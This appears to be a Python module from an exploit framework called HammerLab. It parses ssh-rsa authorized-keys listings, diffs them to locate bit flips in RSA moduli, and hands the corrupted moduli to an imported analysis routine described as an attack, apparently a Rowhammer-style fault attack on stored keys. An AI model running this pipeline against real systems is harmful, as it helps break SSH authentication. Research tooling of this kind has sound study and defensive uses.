"""
Public-key stores for HammerLab.

A store is an authorized-keys style listing, one key per line::

    ssh-rsa <base64 wire blob> <user>

The wire blob is ``string "ssh-rsa" || mpint e || mpint n`` with 32-bit
big-endian length prefixes. Diffs are taken over the decoded blobs, so
a reported (offset, bit) addresses a byte of the key itself.
"""

import base64
import binascii
import logging
import struct
from dataclasses import dataclass, field
from typing import Any, Dict, List, Mapping, Optional, Tuple

from error_handling import MalformedRecordError

from .rsa_keys import DEFAULT_FACTOR_BUDGET, DEFAULT_VERIFY_ROUNDS, RsaPublicKey, analyze_modulus

logger = logging.getLogger("HAMMERLAB.Exploit.Keys")

KEY_TYPE = "ssh-rsa"


def _pack_string(value: bytes) -> bytes:
    return struct.pack(">I", len(value)) + value


def _pack_mpint(value: int) -> bytes:
    if value == 0:
        return _pack_string(b"")
    raw = value.to_bytes((value.bit_length() + 7) // 8, "big")
    if raw[0] & 0x80:
        raw = b"\x00" + raw
    return _pack_string(raw)


def encode_rsa_blob(n: int, e: int) -> bytes:
    return _pack_string(KEY_TYPE.encode("ascii")) + _pack_mpint(e) + _pack_mpint(n)


def _read_string(blob: bytes, pos: int) -> Tuple[bytes, int, int]:
    """(payload, payload offset, next position)."""
    if pos + 4 > len(blob):
        raise MalformedRecordError("truncated key blob")
    (length,) = struct.unpack_from(">I", blob, pos)
    start = pos + 4
    if start + length > len(blob):
        raise MalformedRecordError("key blob length prefix overruns the blob")
    return blob[start:start + length], start, start + length


def decode_rsa_blob(blob: bytes) -> Tuple[int, int]:
    """(n, e) of an ssh-rsa blob; corrupted values are returned as they are."""
    key_type, _, pos = _read_string(blob, 0)
    if key_type != KEY_TYPE.encode("ascii"):
        raise MalformedRecordError(f"unsupported key type {key_type!r}")
    e_raw, _, pos = _read_string(blob, pos)
    n_raw, _, pos = _read_string(blob, pos)
    if pos != len(blob):
        raise MalformedRecordError("trailing bytes after the modulus")
    return int.from_bytes(n_raw, "big"), int.from_bytes(e_raw, "big")


def modulus_span(blob: bytes) -> Tuple[int, int]:
    """Byte range [start, end) of the modulus payload inside a blob."""
    _, _, pos = _read_string(blob, 0)
    _, _, pos = _read_string(blob, pos)
    _, start, end = _read_string(blob, pos)
    return start, end


def modulus_bit_at(blob: bytes, offset: int, bit: int) -> Optional[int]:
    """Modulus bit index hit by flipping ``bit`` of byte ``offset``, or None."""
    start, end = modulus_span(blob)
    if not start <= offset < end:
        return None
    return (end - 1 - offset) * 8 + bit


@dataclass(frozen=True)
class KeyEntry:
    user: str
    blob: bytes
    key_type: str = KEY_TYPE

    @classmethod
    def from_key(cls, user: str, key: RsaPublicKey) -> "KeyEntry":
        return cls(user, encode_rsa_blob(key.n, key.e))

    def serialize(self) -> str:
        return f"{self.key_type} {base64.b64encode(self.blob).decode('ascii')} {self.user}"

    def public_key(self) -> Tuple[int, int]:
        return decode_rsa_blob(self.blob)


def parse_listing(text: str) -> Dict[str, KeyEntry]:
    """Parse a key listing into entries keyed by user; later duplicates are rejected."""
    entries: Dict[str, KeyEntry] = {}
    for lineno, raw in enumerate(text.splitlines(), start=1):
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        parts = line.split(None, 2)
        if len(parts) != 3:
            raise MalformedRecordError(f"key line {lineno} needs type, blob and user", line=lineno)
        key_type, encoded, user = parts
        if key_type != KEY_TYPE:
            raise MalformedRecordError(f"key line {lineno} has unsupported type '{key_type}'", line=lineno)
        try:
            blob = base64.b64decode(encoded, validate=True)
        except binascii.Error as e:
            raise MalformedRecordError(f"key line {lineno} has an invalid base64 blob", line=lineno) from e
        if user in entries:
            raise MalformedRecordError(f"key line {lineno} repeats user '{user}'", line=lineno)
        entries[user] = KeyEntry(user, blob, key_type)
    return entries


def serialize_listing(entries: Mapping[str, KeyEntry]) -> str:
    return "".join(entries[user].serialize() + "\n" for user in sorted(entries))


@dataclass
class KeyChange:
    """A user whose stored key differs between two listings."""
    user: str
    kind: str
    positions: List[Tuple[int, int]] = field(default_factory=list)
    before: Optional[KeyEntry] = None
    after: Optional[KeyEntry] = None

    def to_dict(self) -> Dict[str, Any]:
        return {
            "user": self.user,
            "kind": self.kind,
            "positions": [list(p) for p in self.positions],
        }


def bit_positions(before: bytes, after: bytes) -> List[Tuple[int, int]]:
    """(offset, bit) of every differing bit of two equal-length byte strings."""
    positions = []
    for offset, (a, b) in enumerate(zip(before, after)):
        diff = a ^ b
        for bit in range(8):
            if diff >> bit & 1:
                positions.append((offset, bit))
    return positions


def diff_key_store(before: Mapping[str, KeyEntry], after: Mapping[str, KeyEntry]) -> List[KeyChange]:
    """
    Keys whose serialized form changed, ordered by user.

    ``kind`` is "modified" for equal-length blobs (with bit positions),
    "resized" when the blob length changed, and "added" or "removed"
    for users present on one side only.
    """
    changes = []
    for user in sorted(set(before) | set(after)):
        old, new = before.get(user), after.get(user)
        if old is None:
            changes.append(KeyChange(user, "added", after=new))
        elif new is None:
            changes.append(KeyChange(user, "removed", before=old))
        elif old.blob != new.blob:
            if len(old.blob) == len(new.blob):
                changes.append(KeyChange(user, "modified", bit_positions(old.blob, new.blob), old, new))
            else:
                changes.append(KeyChange(user, "resized", before=old, after=new))
    logger.info(f"Key store diff: {len(changes)} changed of {len(set(before) | set(after))} users")
    return changes


def analyze_changed_keys(changes: List[KeyChange], budget: int = DEFAULT_FACTOR_BUDGET,
                         verify_rounds: int = DEFAULT_VERIFY_ROUNDS, seed: int = 0) -> List[Dict[str, Any]]:
    """
    Attack every modified key whose modulus changed.

    The corrupted modulus is taken from the new blob, so several flipped
    bits in one key are analysed together.
    """
    findings = []
    for change in changes:
        if change.kind != "modified":
            continue
        modulus_bits = [b for b in (modulus_bit_at(change.before.blob, o, bit) for o, bit in change.positions)
                        if b is not None]
        if not modulus_bits:
            findings.append({**change.to_dict(), "modulus_bits": [], "result": None})
            continue
        try:
            n_new, e = change.after.public_key()
        except MalformedRecordError as e_blob:
            logger.warning(f"{change.user}: corrupted blob no longer decodes ({e_blob.message})")
            findings.append({**change.to_dict(), "modulus_bits": sorted(modulus_bits), "result": None})
            continue
        bit = modulus_bits[0] if len(modulus_bits) == 1 else None
        result = analyze_modulus(n_new, e, bit, budget, verify_rounds, seed)
        findings.append({**change.to_dict(), "modulus_bits": sorted(modulus_bits), "result": result.to_dict()})
    return findings
